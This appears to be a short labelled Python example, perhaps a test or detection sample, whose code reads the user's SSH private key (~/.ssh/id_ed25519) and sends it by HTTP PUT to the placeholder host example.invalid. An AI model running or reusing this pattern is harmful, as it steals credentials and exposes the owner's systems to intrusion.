# why: sends a private key away
from pathlib import Path
import http.client as h
h.HTTPConnection("example.invalid").request("PUT", "/", Path.home().joinpath(".ssh/id_ed25519").read_bytes())
